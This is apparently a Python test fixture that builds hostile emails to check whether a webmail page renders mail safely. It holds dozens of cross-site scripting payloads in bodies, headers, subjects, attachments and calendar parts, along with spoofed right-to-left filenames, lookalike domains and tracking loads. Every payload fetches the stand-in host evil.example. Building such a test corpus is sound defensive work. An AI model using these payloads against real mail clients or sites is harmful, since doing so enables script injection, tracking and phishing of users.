"""Hostile mails: what a sender may write who knows how these pages are made. All of it was written for these tests.

Every payload does the same two things if it runs: it sets `window.pwned`, and it asks for something at `evil.example`.
"""

from base64 import b64encode

JS = "window.pwned=1;fetch('https://evil.example/ran')"
SCRIPT = f"<script>{JS}</script>"
IMG = f'"><img src=x onerror="{JS}">'
BREAK_OUT = f"</title></textarea></select></style></script>{SCRIPT}"
SVG_FILE = (
    f'<svg xmlns="http://www.w3.org/2000/svg" onload="{JS}"><script>{JS}</script><image href="https://evil.example/s"/>'
    f'<foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="{JS}"/></foreignObject></svg>'
)

HTML_BODIES = {
    "scripts": f"{SCRIPT}<script src='https://evil.example/x.js'></script><body onload=\"{JS}\">",
    "events": f'<img src=x onerror="{JS}"><video onloadstart="{JS}" src=//evil.example/v></video>'
    f'<details open ontoggle="{JS}">x</details><input autofocus onfocus="{JS}"><marquee onstart="{JS}">x</marquee>',
    "svg": f"{SVG_FILE}"
    f'<svg><animate onbegin="{JS}" attributeName=x dur=1s></svg>'
    '<svg><use href="//evil.example/u#x"></svg>'
    f'<svg><style><img src=x onerror="{JS}"></style></svg>',
    "math": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={JS}&gt;">',
    "noscript": f'<noscript><p title="</noscript><img src=x onerror={JS}>"></noscript>',
    "css": "<style>@import url(https://evil.example/i.css);body{background:url(https://evil.example/b)}"
    "@font-face{font-family:f;src:url(https://evil.example/f)}*{font-family:f}</style>"
    f'<div style="background-image:url(https://evil.example/bg);width:expression({JS});behavior:url(#x)">x</div>'
    '<div style="background:u\\72l(https://evil.example/esc);-moz-binding:url(https://evil.example/m)">y</div>'
    '<link rel=stylesheet href="https://evil.example/l.css">',
    "loads": '<link rel=preload as=image href="https://evil.example/p">'
    '<link rel=dns-prefetch href="//dns.evil.example">'
    '<link rel=preconnect href="https://pre.evil.example"><img srcset="https://evil.example/1 1x">'
    '<picture><source srcset="https://evil.example/2"><img src="https://evil.example/3"></picture>'
    '<img src="https://evil.example/pixel" width=1><audio autoplay src="https://evil.example/a"></audio>'
    '<object data="https://evil.example/o"></object><embed src="https://evil.example/e">'
    '<table background="https://evil.example/t"><td background="https://evil.example/td">x</table>',
    "frames": f"<iframe srcdoc='{SCRIPT}'></iframe><iframe src='javascript:{JS}'></iframe>"
    '<frameset><frame src="https://evil.example/f"></frameset><base href="https://evil.example/">'
    '<meta http-equiv=refresh content="0;url=https://evil.example/r"><portal src="https://evil.example/p">',
    "forms": '<form action="https://evil.example/f" id=f>'
    f'<button formaction="javascript:{JS}" autofocus>x</button></form>'
    '<isindex action="https://evil.example/i"><form action="javascript:1"><input name=csrf_token></form>',
    "links": f"<a href=\"javascript:{JS}\">a</a><a href=' java\tscript:{JS}'>b</a><a href='&#106;avascript:{JS}'>c</a>"
    f"<a href='data:text/html;base64,{b64encode(SCRIPT.encode()).decode()}'>d</a><a href='vbscript:x'>e</a>"
    "<a href='https://evil.example/\u202egpj.exe'>\u202emoc.knab</a>"
    "<a href='//evil.example/x' ping='//evil.example/ping'>f</a>"
    f"<a href='https://evil.example/\"onmouseover=\"{JS}'>g</a><a href='https://xn--pypal-4ve.example/'>h</a>"
    f'<map name=m><area href="javascript:{JS}"></map>',
    "htmx": '<div hx-get="/queue" hx-trigger="load" hx-swap="outerHTML">x</div><div hx-on:load="window.pwned=1">y</div>'
    '<div data-hx-get="https://evil.example/h" data-hx-trigger="load">z</div>',
    "clobber": '<form id="help"><input id="q"><img name="cookie"></form><a id="back" href="https://evil.example/">x</a>'
    "<div data-row data-retract data-undo>x</div>",
    "template": "{{ 7 * 7 }}{% raw %}${window.pwned=1}<template><script>window.pwned=1</script></template>",
}

SUBJECTS = {
    "script": BREAK_OUT,
    "img": IMG,
    "encoded": "=?utf-8?B?" + b64encode(IMG.encode()).decode() + "?=",
    "turned": "Invoice \u202egpj.exe\u2066 hidden\u2069",
    "attribute": f"x' onmouseover='{JS}' y=\" autofocus onfocus=\"{JS}",
}


def mail(name: str, html: str, subject: str = "Hostile", extra: str = "", parts: str = "") -> bytes:
    """One mail whose every place that a sender chooses holds a payload."""
    quoted = IMG.replace('"', '\\"')
    return f"""\
From: "{quoted}" <"{SCRIPT}"@evil.example>, {SCRIPT} <ceo@evil.example>
Reply-To: "{quoted}" <reply{SCRIPT}@evil.example>
Return-Path: <bounce"{SCRIPT}@evil.example>
To: ana@example.org
Subject: {subject}
Date: Mon, 23 Nov 2026 08:15:00 +0000
Message-ID: <{name}{SCRIPT}@evil.example>
X-{SCRIPT}: {SCRIPT}
X-Payload: {IMG}
{extra}MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="{SCRIPT}-{name}"

--{SCRIPT}-{name}
Content-Type: text/html; charset=utf-8

<p>{name}</p>{html}
--{SCRIPT}-{name}
Content-Type: text/html; name="{quoted}.html"
Content-Disposition: attachment; filename="{quoted}\u202egpj.exe"

{SCRIPT}
--{SCRIPT}-{name}
Content-Type: image/svg+xml; name="{SCRIPT}.svg"
Content-Disposition: inline; filename="{SCRIPT}.svg"
Content-ID: <{SCRIPT}>

{SVG_FILE}
--{SCRIPT}-{name}
Content-Type: text/calendar; method=REQUEST; charset=utf-8

BEGIN:VCALENDAR
BEGIN:VEVENT
SUMMARY:{SCRIPT}
DESCRIPTION:{IMG}
LOCATION:https://evil.example/meet
URL:javascript:{JS}
END:VEVENT
END:VCALENDAR
{parts}--{SCRIPT}-{name}--
""".replace("\n", "\r\n").encode("utf-8", "surrogatepass")


def corpus() -> dict[str, bytes]:
    """Every hostile mail by its name."""
    bodies = {name: mail(name, html) for name, html in HTML_BODIES.items()}
    subjects = {f"subject-{name}": mail(name, SCRIPT, subject) for name, subject in SUBJECTS.items()}
    plain = mail("plain", "").replace(b"text/html; charset", b"text/plain; charset")
    return {**bodies, **subjects, "plain": plain}
